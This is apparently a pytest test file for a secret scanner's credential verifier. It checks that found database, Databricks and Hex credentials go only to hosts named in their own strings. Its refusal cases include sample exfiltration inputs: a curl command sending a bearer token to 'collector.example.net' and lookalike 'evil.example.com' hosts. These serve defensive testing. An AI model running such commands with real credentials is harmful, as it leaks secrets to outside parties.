"""Where a found credential may be sent: parsed from its own connection string, nothing else."""

from __future__ import annotations

import pytest

from hex_guard.verify import Status, Target, VerifyOptions
from hex_guard.verify.dispatch import plan
from tests.verify_servers import found

PW = "Qx7" + "vP2mLz9k"
DAPI = "dapi" + "5f1c0e9a7b3d4c2e8f6a0b1c2d3e4f5a"
HXTW = "hxtw_" + "9c3e1a7f5b2d8e4c6a0f1b3d5e7a9c2e" * 3
OPTIONS = VerifyOptions()


def planned(text: str, path: str = "settings.py") -> Target:
    [finding] = found(text, path)
    result = plan(finding, OPTIONS)
    assert isinstance(result, Target), result
    return result


def refused(text: str, path: str = "settings.py") -> str:
    [finding] = found(text, path)
    result = plan(finding, OPTIONS)
    assert not isinstance(result, Target), result
    assert result.status is Status.UNVERIFIABLE
    assert result.endpoint is None
    return result.reason


# (text, path, service, host, port, user, database)
TARGETS = [
    (
        f"DATABASE_URL=postgresql://etl:{PW}@db.prod.acme.io:5432/warehouse?sslmode=require",
        ".env",
        "postgresql",
        "db.prod.acme.io",
        5432,
        "etl",
        "warehouse",
    ),
    (
        f"e = create_engine('redshift+psycopg2://etl:{PW}@ex.abc.us-west-2.redshift.amazonaws.com/dev')",
        "a.py",
        "postgresql",
        "ex.abc.us-west-2.redshift.amazonaws.com",
        5439,
        "etl",
        "dev",
    ),
    (
        f"url: cockroachdb://root:{PW}@crdb.acme.io/defaultdb",
        "a.yml",
        "postgresql",
        "crdb.acme.io",
        26257,
        "root",
        "defaultdb",
    ),
    (
        f"postgres://svc:p%40ss{PW}@pg.internal.acme.io/db",
        "a.txt",
        "postgresql",
        "pg.internal.acme.io",
        5432,
        "svc",
        "db",
    ),
    (
        f"jdbc:postgresql://pg.acme.io:5433/dw?user=etl&password={PW}",
        "a.properties",
        "postgresql",
        "pg.acme.io",
        5433,
        "etl",
        "dw",
    ),
    (
        f"jdbc:redshift://ex.abc.us-west-2.redshift.amazonaws.com:5439/dev;UID=u;PWD={PW}",
        "a.properties",
        "postgresql",
        "ex.abc.us-west-2.redshift.amazonaws.com",
        5439,
        "u",
        "dev",
    ),
    (
        f"jdbc:mysql://db.acme.io/dw?user=etl&password={PW}&useSSL=true",
        "a.properties",
        "mysql",
        "db.acme.io",
        3306,
        "etl",
        "dw",
    ),
    (
        f'cs = "Host=pg.acme.io;Port=5432;Database=dw;Username=hex;Password={PW};"',
        "a.cs",
        "postgresql",
        "pg.acme.io",
        5432,
        "hex",
        "dw",
    ),
    (
        f'cs = "Driver={{MySQL ODBC 8.0 Unicode Driver}};Server=my.acme.io;Database=dw;User=hex;Password={{{PW};x}};"',
        "a.py",
        "mysql",
        "my.acme.io",
        3306,
        "hex",
        "dw",
    ),
    (
        f"host=pg.acme.io port=5432 dbname=analytics user=hex password={PW} sslmode=require",
        "a.txt",
        "postgresql",
        "pg.acme.io",
        5432,
        "hex",
        "analytics",
    ),
    (
        f"dsn = \"user=hex password='{PW} x' dbname=x host=10.1.2.3\"",
        "a.py",
        "postgresql",
        "10.1.2.3",
        5432,
        "hex",
        "x",
    ),
    (
        f"db = MySQLdb.connect(host='my.acme.io', user='etl', passwd='{PW}', db='dw')",
        "a.py",
        "mysql",
        "my.acme.io",
        3306,
        "etl",
        "dw",
    ),
    (
        f"r = redis.StrictRedis(host='cache.acme.io', port=6380, password='{PW}', ssl=True)",
        "a.py",
        "redis",
        "cache.acme.io",
        6380,
        None,
        None,
    ),
    (
        f"REDIS_URL=redis://:{PW}@[2001:db8::7]:6379/0",
        ".env",
        "redis",
        "2001:db8::7",
        6379,
        None,
        "0",
    ),
    (
        f'{{"connectionDetails": {{"postgres": {{"hostname": "pg.acme.io", "port": 5433, "username": "hex", "password": "{PW}", "database": "dw"}}}}}}',
        "conn.json",
        "postgresql",
        "pg.acme.io",
        5433,
        "hex",
        "dw",
    ),
    (
        f'{{"type": "mysql", "options": {{"host": "wrong.acme.io"}}, "host": "my.acme.io", "user": "u", "password": "{PW}"}}',
        "conn.json",
        "mysql",
        "my.acme.io",
        3306,
        "u",
        None,
    ),
    (
        f"hex:\n  outputs:\n    prod:\n      type: redshift\n      host: ex.abc.redshift.amazonaws.com\n      user: etl\n      pass: {PW}\n      dbname: dev\n    dev:\n      type: postgres\n      host: wrong.acme.io\n",
        "profiles.yml",
        "postgresql",
        "ex.abc.redshift.amazonaws.com",
        5439,
        "etl",
        "dev",
    ),
]


@pytest.mark.parametrize(("text", "path", "service", "host", "port", "user", "database"), TARGETS)
def test_target_comes_from_the_credentials_own_string(
    text: str, path: str, service: str, host: str, port: int, user: str | None, database: str | None
) -> None:
    t = planned(text, path)
    assert (t.service, t.host, t.port, t.user, t.database) == (service, host, port, user, database)


def test_password_is_decoded_as_the_driver_would() -> None:
    assert planned(f"postgres://svc:p%40ss{PW}@pg.acme.io/db", "a.txt").secret == "p@ss" + PW
    braced = f'cs = "Driver={{MySQL ODBC 8.0 Driver}};Server=h.acme.io;Uid=u;Pwd={{{PW};x}};"'
    assert planned(braced, "a.py").secret == PW + ";x"
    assert planned(f"host=h.acme.io user=u password='{PW} x'", "a.txt").secret == PW + " x"


@pytest.mark.parametrize(
    ("text", "path", "reason"),
    [
        # No host in the credential's own string: another string's host is not borrowed.
        (
            f'c = connect("dbname=x user=hex password={PW}") if a else connect("host=pg.acme.io")',
            "a.py",
            "no host",
        ),
        (f"host=pg.acme.io\nconn = psycopg2.connect(user='u', password='{PW}')", "a.py", "no host"),
        (f"conn = psycopg2.connect(host=HOST, user='u', password='{PW}')", "a.py", "not a literal"),
        (f"postgresql://u:{PW}@h1.acme.io:5432,h2.acme.io:5432/db", "a.txt", "several hosts"),
        (f"postgresql://u:{PW}@localhost/db?host=/var/run/postgresql", "a.txt", "query string"),
        (f"mongodb+srv://app:{PW}@cluster0.ab1cd.mongodb.net/prod", "a.py", "mongodb"),
        (
            f"snowflake.connector.connect(user='HEX', password='{PW}', account='xy12345')",
            "a.py",
            "snowflake",
        ),
        (
            f'cs = "Server=tcp:acme.database.windows.net,1433;Database=dw;Uid=hex;Pwd={PW};"',
            "a.py",
            "driver",
        ),
        (
            f"hex:\n  outputs:\n    dev:\n      type: snowflake\n      account: xy\n      password: {PW}\n",
            "profiles.yml",
            "snowflake",
        ),
        (
            f"hex:\n  outputs:\n    dev:\n      type: redshift\n      method: iam\n      host: h.acme.io\n      user: u\n      password: {PW}\n",
            "profiles.yml",
            "IAM",
        ),
        (f"postgresql://:{PW}@pg.acme.io/db", "a.txt", "no user"),
        (f"DB_PASSWORD={PW}", ".env", "no service"),
        (
            f'{{"connectionDetails": {{"redshift": {{"user": "u", "password": "{PW}"}}}}}}',
            "c.json",
            "no host",
        ),
        (f'{{"host": "h.acme.io", "user": "u", "password": "{PW}"}}', "c.json", "no postgresql"),
    ],
)
def test_no_known_host_is_unverifiable_never_guessed(text: str, path: str, reason: str) -> None:
    assert reason.lower() in refused(text, path).lower()


# --- Databricks and Hex ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "path", "url"),
    [
        (
            f"databricks://token:{DAPI}@adb-1234567890123456.7.azuredatabricks.net?http_path=/sql",
            "a.py",
            "https://adb-1234567890123456.7.azuredatabricks.net",
        ),
        (
            f"      host: dbc-a1b2345c-d6e7.cloud.databricks.com\n      token: {DAPI}\n",
            "profiles.yml",
            "https://dbc-a1b2345c-d6e7.cloud.databricks.com",
        ),
        (
            f"DATABRICKS_HOST=https://1234567890123456.7.gcp.databricks.com\nDATABRICKS_TOKEN={DAPI}\n",
            ".env",
            "https://1234567890123456.7.gcp.databricks.com",
        ),
        (
            f"sql.connect(server_hostname='adb-1.2.azuredatabricks.net', http_path=p, access_token='{DAPI}')",
            "a.py",
            "https://adb-1.2.azuredatabricks.net",
        ),
        (
            f"curl -H 'Authorization: Bearer {DAPI}' https://dbc-1.cloud.databricks.com/api/2.0/clusters/list",
            "a.sh",
            "https://dbc-1.cloud.databricks.com",
        ),
    ],
)
def test_databricks_token_goes_to_the_workspace_found_with_it(
    text: str, path: str, url: str
) -> None:
    t = planned(text, path)
    assert (t.service, t.base_url) == ("databricks", url)


@pytest.mark.parametrize(
    "text",
    [
        f"DATABRICKS_TOKEN={DAPI}\n",
        f"DATABRICKS_HOST=https://databricks.evil.example.com\nDATABRICKS_TOKEN={DAPI}\n",
        f"DATABRICKS_HOST=http://adb-1.2.azuredatabricks.net\nDATABRICKS_TOKEN={DAPI}\n",
        f"curl -H 'Authorization: Bearer {DAPI}' https://collector.example.net/",
    ],
)
def test_databricks_token_is_never_sent_off_databricks(text: str) -> None:
    refused(text, ".env")


def test_hex_token_goes_to_hex_or_the_workspace_named_with_it() -> None:
    assert planned(f"HEX_API_TOKEN={HXTW}\n", ".env").base_url == "https://app.hex.tech"
    eu = f"HEX_API_TOKEN={HXTW}\nHEX_API_URL=https://eu.hex.tech/api/v1\n"
    assert planned(eu, ".env").base_url == "https://eu.hex.tech"
    # A non-Hex URL next to the token is not a Hex workspace.
    other = f"HEX_API_TOKEN={HXTW}\nWEBHOOK=https://hex.tech.evil.example.com/api\n"
    assert planned(other, ".env").base_url == "https://app.hex.tech"


def test_configured_hex_base_url_wins_and_must_be_https() -> None:
    [finding] = found(f"HEX_API_TOKEN={HXTW}\n", ".env")
    single_tenant = plan(finding, VerifyOptions(hex_base_url="https://acme.hex.tech/api/v1/"))
    assert isinstance(single_tenant, Target) and single_tenant.base_url == "https://acme.hex.tech"
    clear = plan(finding, VerifyOptions(hex_base_url="http://acme.hex.tech"))
    assert not isinstance(clear, Target) and clear.status is Status.UNVERIFIABLE


def test_hex_pm_key_is_not_sent_to_hex() -> None:
    assert "hex.pm" in refused("HEX_API_KEY=Zq8rT2vX9mK4pL7nB3cF6hJ1\n", "deploy.sh")


def test_rules_without_a_verifier_are_unverifiable() -> None:
    jwt = "eyJ" + "hbGciOiJIUzI1NiJ9x" + ".eyJ" + "zZXNzaW9uIjoiYWNtZSJ9" + ".Xw9kQ2mZp4LtR7vB1cN8"
    assert "no verifier" in refused(f"export motherduck_token={jwt}\n", "env.sh")
